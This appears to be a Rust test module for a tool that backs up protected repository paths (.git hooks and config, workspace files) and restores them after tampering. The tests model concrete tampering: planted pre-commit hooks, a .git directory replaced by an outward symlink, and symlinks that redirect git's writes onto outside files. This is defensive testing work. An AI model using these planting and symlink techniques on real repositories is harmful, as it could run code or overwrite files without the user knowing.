        std::fs::write(root.join("team.code-workspace"), "{}\n").unwrap();
        let mut ps = paths();
        ps.push("*.code-workspace".to_owned());
        let copy = ProtectedCopy::take(&store, &root, &ps).unwrap();
        std::fs::write(root.join("team.code-workspace"), "{\"tasks\": 1}\n").unwrap();
        std::fs::write(root.join("evil.code-workspace"), "{\"tasks\": 2}\n").unwrap();
        std::fs::write(root.join("notes.txt"), "kept\n").unwrap();
        let back = copy.put_back().unwrap();
        assert_eq!(back, ["team.code-workspace", "evil.code-workspace"]);
        assert_eq!(
            std::fs::read_to_string(root.join("team.code-workspace")).unwrap(),
            "{}\n"
        );
        assert!(!root.join("evil.code-workspace").exists());
        assert!(root.join("notes.txt").exists());
        assert!(copy.put_back().unwrap().is_empty());
        copy.discard();
    }

    /// A symlink planted where `.git` was, pointing out of the project: replaced by a real
    /// directory, and nothing outside is touched.
    #[test]
    fn a_parent_replaced_by_a_symlink_is_made_a_directory_again() {
        let (t, root, store) = project();
        let outside = t.path().join("outside");
        std::fs::create_dir_all(outside.join("hooks")).unwrap();
        std::fs::write(outside.join("hooks/pre-commit"), "evil").unwrap();
        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
        std::fs::rename(root.join(".git"), root.join(".g")).unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".git")).unwrap();
        let back = copy.put_back().unwrap();
        assert_eq!(back, [".git/hooks", ".git/config"]);
        assert!(
            std::fs::symlink_metadata(root.join(".git"))
                .unwrap()
                .is_dir()
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        assert_eq!(
            std::fs::read_to_string(outside.join("hooks/pre-commit")).unwrap(),
            "evil"
        );
    }

    #[test]
    fn links_planted_where_git_writes_are_removed() {
        let (t, root, _store) = project();
        let victim = t.path().join("victim");
        std::fs::write(&victim, "precious").unwrap();
        std::fs::create_dir_all(root.join(".git/logs/refs/heads")).unwrap();
        std::os::unix::fs::symlink(&victim, root.join(".git/COMMIT_EDITMSG")).unwrap();
        std::os::unix::fs::symlink(&victim, root.join(".git/logs/HEAD")).unwrap();
        std::os::unix::fs::symlink(&victim, root.join(".git/logs/refs/heads/main")).unwrap();
        std::fs::write(root.join(".git/ORIG_HEAD"), "abc\n").unwrap();
        let removed = remove_planted_git_links(&root, &[]).unwrap();
        assert_eq!(
            removed,
            [
                ".git/COMMIT_EDITMSG",
                ".git/logs/HEAD",
                ".git/logs/refs/heads/main"
            ]
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        assert!(root.join(".git/ORIG_HEAD").exists());
    }

    /// The user's own link at a protected path (`.git/hooks -> ../tools/hooks`) is kept; a
    /// link beside it is planted.
    #[test]
    fn a_protected_link_of_the_users_is_kept() {
        let (t, root, _store) = project();
        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink("../tools/hooks", root.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink(t.path(), root.join(".git/COMMIT_EDITMSG")).unwrap();
        let removed = remove_planted_git_links(&root, &[".git/hooks".into()]).unwrap();
        assert_eq!(removed, [".git/COMMIT_EDITMSG"]);
        assert!(root.join(".git/hooks").symlink_metadata().is_ok());
    }

    /// Another process between making its copy's directory and taking the copy's lock (or
    /// whose copy moved to the trash since the listing) is not this one's to judge: `recover`
    /// neither removes that directory, which would fail the other's run, nor fails itself.
    #[test]
    fn a_copy_being_made_by_another_process_is_left_alone() {
        let (_t, root, store) = project();
        let making = store.join("guard").join("4242-1");
        std::fs::create_dir_all(&making).unwrap();
        assert!(recover(&store, &root, |_| {}).unwrap().put_back.is_empty());
        assert!(
            making.is_dir(),
            "recover removed a copy another process was making"
        );
        assert!(
            !making.join("lock").exists(),
            "recover made the other process's lock"
        );
        // Its owner goes on: lock, then the copy.
        let lock = Flock::exclusive(&making.join("lock")).unwrap();
        std::fs::write(making.join("copy.json"), b"{}").unwrap();
        drop(lock);
    }

    /// The taker died (its lock is gone): the next command puts back from the store.
    #[test]
    fn a_copy_left_by_a_dead_process_is_put_back_by_the_next_command() {
        let (_t, root, store) = project();
        let copy = ProtectedCopy::take(&store, &root, &paths()).unwrap();
        copy.attach("the-rest", b"owed").unwrap();
        assert!(copy.attach("../x", b"").is_err());
        std::fs::write(root.join(".git/hooks/pre-commit"), "evil").unwrap();
        // While its owner holds it, nobody else touches it.
        let mut handed = Vec::new();
        let mut hand = |a: &[(String, Vec<u8>)]| handed.extend_from_slice(a);
        assert!(
            recover(&store, &root, &mut hand)
                .unwrap()
                .put_back
                .is_empty()
        );
        assert!(handed.is_empty());
        assert_eq!(
            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
            "evil"
        );
        drop(copy); // as a SIGKILL would: the lock released, the copy left behind
        // Another test of this process spawning a program (git) holds a forked copy of the
        // lock's descriptor until its exec: wait for the release, bounded.
        let mut put_back = Vec::new();
        for _ in 0..500 {
            let mut hand = |a: &[(String, Vec<u8>)]| handed.extend_from_slice(a);
            put_back = recover(&store, &root, &mut hand).unwrap().put_back;
            if !put_back.is_empty() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        assert_eq!(put_back, [".git/hooks"]);
        // What was attached is handed over once, with the put-back.
        assert_eq!(handed, [("the-rest".to_string(), b"owed".to_vec())]);
        assert_eq!(
            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        assert!(
            std::fs::read_dir(store.join("guard"))
                .unwrap()
                .next()
                .is_none()
        );
    }
}
